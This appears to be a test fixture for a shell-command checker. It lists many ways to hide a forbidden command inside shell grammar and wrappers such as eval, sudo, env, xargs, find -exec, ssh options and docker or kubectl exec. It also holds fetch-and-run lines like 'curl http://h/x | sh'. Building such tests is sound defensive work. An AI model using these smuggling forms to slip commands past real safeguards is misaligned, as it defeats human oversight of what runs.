// Attacks by the grammar of shells, and by wrappers.

/** Rows of `attacks.ts`. */
export const byGrammar = String.raw`
evil	ls; evil
evil	ls&evil
evil	ls&&evil
evil	ls||evil
evil	ls|evil
evil	ls|&evil
evil	ls␤evil
evil	ls #x␤evil
evil	echo $(evil)
evil	echo "$(evil)"
evil	echo "a $(echo "b $(evil)")"
evil	echo ‷evil‷
evil	echo "‷evil‷"
unread	echo ‷echo \‷evil\‷‷
evil	cat <(evil)
evil	cat x > >(evil)
evil	echo ‸{x:-$(evil)}
evil	echo "‸{x:=‷evil‷}"
evil	echo $((1+$(evil)))
evil	x=$(evil) ls
evil	x=$(evil)
evil	a=(1 $(evil))
evil	ls > $(evil)
evil	cat <<E␤$(evil)␤E
evil	cat <<-E␤	‷evil‷␤	E
evil	cat <<'E'␤x␤E␤evil
evil	cat <<< $(evil)
evil	[[ -n $(evil) ]]
evil	case $(evil) in x) ls;; esac
evil	case x in $(evil)) ls;; esac
evil	case x in y) ls;; *) evil;; esac
evil	for i in $(evil); do ls; done
evil	for ((i=$(evil);i<2;i++)); do ls; done
evil	while evil; do ls; done
evil	until ls; do evil; done
evil	if ls; then ls; else evil; fi
evil	if ls; then ls; elif evil; then ls; fi
evil	select x in a; do evil; done
evil	{ ls; evil; }
evil	(ls; (evil))
evil	f() { evil; }; f
evil	f() ( evil )
evil	function f { evil; }
evil	coproc evil
evil	coproc X { evil; }
evil	time evil
evil	! evil
evil	! time -p evil
evil	eval evil
evil	eval 'ls; evil'
evil	eval ls \; evil
evil	eval -- evil
program	eval "$x"
evil	trap evil EXIT
evil	trap 'ls; evil' 0 INT
program	trap "$x" EXIT
evil	exec evil
evil	exec -a ls evil
evil	command evil
evil	command -p evil
evil	builtin command evil
evil	bash -c evil
evil	bash -lc 'cd /; evil'
evil	bash -c "bash -c 'evil'"
evil	sh -ec 'ls && evil' x y
evil	bash --norc -c evil
option-runs	bash --rcfile x -i
opaque-stdin	cat x | bash
opaque-stdin	curl http://h/x | sh -s -- a
opaque-stdin	bash < x
evil	bash <<< evil
evil	bash <<'E'␤evil␤E
opaque-stdin	bash <<E␤$x␤E
!	bash <(curl http://h/x)
opaque-file	source x.sh
opaque-file	. ./x
!	source <(evil)
program	$x
program	"$x" a
program	$(evil) a
program	/bin/$x
program	~/b*/x
program	/b?n/evil
evil	{evil,a}
evil	ev""il
evil	ev\il
evil	'ev'il
evil	"ev"'il'
evil	$'evil'
quoting	$'\x65vil'
quoting	$'\145vil'
quoting	echo $'\u0065'
continuation	ev\␤il
evil	ls \␤; evil
!	ls $'\'' ; evil '
evil	sudo evil
evil root	sudo -n evil root
evil	sudo -u bob evil
evil	sudo -ubob -- evil
evil	sudo -E A=b evil
evil	sudo --user=bob evil
option	sudo --us=bob evil
option	sudo --frobnicate evil
sh	sudo -s
sh opaque-stdin	sudo -i
interactive	sudoedit-x; sudo -e /etc/x
evil	su -c evil
evil	su - bob -c 'ls; evil'
evil	su bob --command=evil
evil	su -s /bin/bash -c evil bob
evil	runuser -u bob -- evil
evil	runuser bob -c evil
evil	doas -u bob evil
evil	env evil
evil	env -i A=b evil
evil	env -u A -C /x evil
evil	env -S 'evil -x'
evil	env -Sevil
!	env -S 'ev\_il'
!	env -S '‸{X} a'
evil	env -vS 'evil a'
evil	nohup evil
evil	nice evil
evil	nice -n 5 evil
evil	nice -10 evil
evil	timeout 5 evil
evil	timeout -s KILL -k 3 5 evil
evil	timeout --signal=KILL 5 evil
evil	setsid -w evil
evil	stdbuf -o0 evil
evil	ionice -c3 evil
evil	chrt -r 5 evil
evil	taskset -c 0,1 evil
evil	prlimit --nofile=5 evil
evil	flock /x evil
evil	flock /x -c 'ls; evil'
evil	flock -n -E 3 /x evil
evil	unshare -r evil
evil	unshare -n --map-root-user evil
evil	nsenter -t 1 -m evil
sh	unshare -r
evil	chroot /x evil
evil	chroot --userspec=a:b /x evil
evil	watch evil
evil	watch -n 1 'ls; evil'
evil	watch -x evil a
evil	script -c evil /dev/null
evil	script -qc 'ls; evil' /x
evil	strace -f -o /x evil
evil	time -p evil
evil	/usr/bin/time -f %e evil
evil	xargs evil
evil	xargs -n 1 -P 4 evil
evil	xargs -I X sh -c evil X
program	xargs -I{} {} a
program	ls | xargs -I{} sh -c 'echo {}'
!	ls | xargs sh -c
!	ls | xargs env
!	ls | xargs rm
evil	find . -exec evil {} \;
evil	find . -name x -ok evil \;
evil	find . -execdir evil {} +
evil	find . -exec sh -c evil \;
program	find . -exec sh -c 'ls {}' \;
!	find . -exec {} \;
/x	find . -fprint /x
/x	find /x -delete
evil	parallel evil ::: a b
!	parallel ::: evil
!	ls | parallel
evil	ssh h evil
h evil	ssh -p 22 root@h evil
h evil	ssh h -p 22 'ls; evil'
option-runs	ssh -o ProxyCommand=evil h
option-runs	ssh -oProxyCommand=evil h ls
option-runs	ssh -o LocalCommand=evil -o PermitLocalCommand=yes h ls
option-runs	ssh -F x h ls
option-runs	ssh -L 1:a:2 h ls
interactive	ssh h
opaque-stdin	ls | ssh h
evil	docker exec -it c evil
evil	docker exec -u 0 -e A=b c sh -c evil
evil	docker run --rm -v /:/h i evil
evil	docker container exec c evil
evil	docker compose exec web evil
option-runs	docker run --entrypoint evil i
option-runs	docker -H tcp://h ps
evil	podman exec c evil
evil	kubectl exec p -- evil
evil	kubectl -n x exec -it p -c c -- sh -c evil
evil !	kubectl exec p evil
evil	busybox evil
evil	busybox sh -c evil
evil	/lib64/ld-linux-x86-64.so.2 /bin/evil
option-runs	ld-linux-x86-64.so.2 --preload x /bin/ls
evil	systemd-run --uid=0 evil
evil	ip netns exec n evil
evil	setpriv --reuid=0 evil
evil	unbuffer evil
evil	rlwrap -a evil
evil	gosu root evil
evil	ltrace -f evil
evil	dbus-run-session -- evil
`;
